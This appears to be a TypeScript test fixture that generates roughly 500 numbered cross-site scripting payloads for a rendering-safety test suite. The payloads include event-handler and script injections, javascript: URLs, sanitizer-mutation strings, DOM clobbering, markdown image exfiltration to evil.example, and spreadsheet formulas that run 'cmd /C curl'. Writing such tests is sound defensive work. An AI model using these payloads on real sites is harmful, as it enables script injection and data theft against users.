// Five hundred texts that attack whoever shows them. Each calls `__xss` or asks evil.example with its own number,
// so that one that works says which it was. Pages are tried with a part of them that has every kind; the long lane takes all.

export const EVIL = 'https://evil.example'

type Write = (js: string, url: string) => string

/** Fire as soon as they are parsed as markup, so they prove that the detector works. */
const HANDLERS: Write[] = [
  js => `<img src=x onerror=${js}>`,
  js => `<img src=x onerror="${js}" alt="">`,
  js => `<svg onload=${js}>`,
  js => `<svg/onload=${js}>`,
  js => `<IMG SRC=x OnErRoR=${js}>`,
  js => `<img/src=x/onerror=${js}>`,
  js => `<img src=x onerror=${js}//`,
  js => `<video><source onerror=${js}></video>`,
  js => `<audio src=x onerror=${js}></audio>`,
  js => `<input autofocus onfocus=${js}>`,
  js => `<details open ontoggle=${js}>x</details>`,
  js => `<body onload=${js}>`,
  js => `<marquee onstart=${js}>x</marquee>`,
  js => `<iframe onload=${js}></iframe>`,
  js => `<object data=x onerror=${js}></object>`,
  js => `<img src=x onerror=${[...js].map(char => `&#${char.codePointAt(0)};`).join('')}>`,
  js => `<svg><animate onbegin=${js} attributeName=x dur=1s></svg>`,
  js => `<style onload=${js}></style>`,
]

const RESOURCES: Write[] = [
  (_, url) => `<img src="${url}">`,
  (_, url) => `<img srcset="${url} 1x">`,
  (_, url) => `<video poster="${url}"></video>`,
  (_, url) => `<iframe src="${url}"></iframe>`,
  (_, url) => `<object data="${url}"></object>`,
  (_, url) => `<embed src="${url}">`,
  (_, url) => `<link rel=stylesheet href="${url}">`,
  (_, url) => `<svg><image href="${url}"/></svg>`,
  (_, url) => `<div style="background:url(${url})">x</div>`,
  (_, url) => `<style>@import "${url}";</style>`,
  (_, url) => `<script src="${url}"></script>`,
]

const SCRIPTS: Write[] = [
  js => `<script>${js}</script>`,
  js => `<ScRiPt>${js}</sCrIpT>`,
  js => `<script type=module>${js}</script>`,
  js => `<svg><script>${js}</script></svg>`,
  js => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  js => `<template><script>${js}</script></template>`,
  js => `<script>${js}<!--`,
  js => `\u2028${js}\u2029`,
  js => `";${js};//`,
  js => `';${js};//`,
  js => `\${${js}}`,
  js => `{{constructor.constructor('${js}')()}}`,
]

const ADDRESSES: Write[] = [
  js => `javascript:${js}`,
  js => `JaVaScRiPt:${js}`,
  js => `java\nscript:${js}`,
  js => `\u0001javascript:${js}`,
  js => `data:text/html,<script>${js}</script>`,
  js => `vbscript:${js}`,
  js => `<a href="javascript:${js}">x</a>`,
  js => `<form action="javascript:${js}"><button>x</button></form>`,
  js => `<math href="javascript:${js}">x</math>`,
  js => `<a href="&#106;avascript:${js}">x</a>`,
  (_, url) => `blob:${url}`,
  (_, url) => `https://northwind.example@${url.slice(8)}`,
  (_, url) => `https://nоrthwind.example/?from=${url}`,
  (_, url) => `https://\u202Eelpmaxe.dniwhtron/${url}`,
  (_, url) => `https:\\\\${url.slice(8)}`,
  (_, url) => `//${url.slice(8)}`,
]

/** What a sanitizer may rewrite into something it did not check. */
const MUTATIONS: Write[] = [
  js => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  js => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${js}&gt;">`,
  js => `<svg></p><style><a id="</style><img src=x onerror=${js}>">`,
  js => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${js}>`,
  js => `<!--><img src=x onerror=${js}>-->`,
  js => `<![CDATA[<img src=x onerror=${js}>]]>`,
  js => `<xmp><p title="</xmp><svg/onload=${js}>">`,
  js => `&lt;img src=x onerror=${js}&gt;`,
  js => `&amp;lt;svg onload=${js}&amp;gt;`,
  js => `%3Cimg%20src=x%20onerror=${js}%3E`,
  js => `\\u003cimg src=x onerror=${js}\\u003e`,
]

const PAGE_WIDE: Write[] = [
  (_, url) => `<base href="${url}/">`,
  (_, url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  js => `<a id=__clobbered name=cookie></a><form id=__clobbered name=body>${js}</form>`,
  js => `<img name=getElementById id=__clobbered alt="${js}">`,
  (_, url) => `<style>*{background:url(${url})!important;display:none}</style>`,
  (_, url) => `<plaintext>${url}`,
  (_, url) => `<dialog open id=__clobbered>${url}</dialog>`,
]

/** Markdown that fetches or sends what it quotes, and cells that a spreadsheet would compute. */
const MARKDOWN: Write[] = [
  (_, url) => `![x](${url}?q=secret)`,
  (_, url) => `![x][1]\n\n[1]: ${url}?q=secret`,
  (_, url) => `[click](${url}?q=secret)`,
  (_, url) => `[click][2]\n\n[2]: <${url}?q=secret> "title"`,
  (_, url) => `<${url}?q=secret>`,
  (_, url) => `${url}?q=secret`,
  js => `[x](javascript:${js})`,
  js => `![x](x "onerror=${js}")`,
  js => `[x](x 'onclick=${js}')`,
  js => `\`\`\`html\n<img src=x onerror=${js}>\n\`\`\``,
  (_, url) => `=HYPERLINK("${url}","x")`,
  (_, url) => `=IMPORTXML("${url}","//a")`,
  (_, url) => `+cmd|' /C curl ${url}'!A0`,
  (_, url) => `-2+3+cmd|' /C curl ${url}'!A0`,
  (_, url) => `@SUM(1+1)*cmd|' /C curl ${url}'!A0`,
  (_, url) => `\t=WEBSERVICE("${url}")`,
]

/** Break out of wherever the text was inserted. */
const BREAKOUTS = ['', '">', "'>", '-->', '</script>', '</title></textarea>']
const WANTED = 500

const numbered = (writes: Write[], before: string[]): { write: Write; before: string }[] =>
  before.flatMap(text => writes.map(write => ({ write, before: text })))

const spell = ({ write, before }: { write: Write; before: string }, number: number): string =>
  before + write(`__xss(${number})`, `${EVIL}/${number}`)

export const PAYLOADS: readonly string[] = [
  ...numbered([...MARKDOWN, ...ADDRESSES], ['', 'See ']),
  ...numbered([...SCRIPTS, ...HANDLERS, ...MUTATIONS, ...RESOURCES, ...PAGE_WIDE], BREAKOUTS),
  ...numbered([...ADDRESSES, ...MARKDOWN], BREAKOUTS.slice(1)),
]
  .map(spell)
  .slice(0, WANTED)

const KINDS = [MARKDOWN, ADDRESSES, SCRIPTS, HANDLERS, MUTATIONS, RESOURCES, PAGE_WIDE].flat().length
const isSeen = (place: number, among: number, wanted: number): boolean =>
  Math.floor((place * wanted) / among) !== Math.floor(((place + 1) * wanted) / among)

/** Every kind once, and others from the whole of the rest. */
function sampleOf(wanted: number): string[] {
  const first = MARKDOWN.length + ADDRESSES.length
  const second = 2 * first
  const isPlain = (place: number) => place < first || (place >= second && place < second + KINDS - first)
  const others = PAYLOADS.filter((_, place) => !isPlain(place))
  return [
    ...PAYLOADS.filter((_, place) => isPlain(place)),
    ...others.filter((_, place) => isSeen(place, others.length, Math.max(0, wanted - KINDS))),
  ]
}

/** For everything that a browser shows. */
export const TEXTS: readonly string[] = sampleOf(Number(process.env.HOSTILE_TEXTS ?? 120))

/** Printable ASCII only: public pages show invisible characters by their code points. */
export const PLAIN = TEXTS.filter(payload => /^[\x20-\x7e]*$/.test(payload))

/** Work wherever markup is trusted, whatever surrounds them. */
export const BITING: readonly string[] = numbered([...HANDLERS, ...RESOURCES], ['']).map(spell)
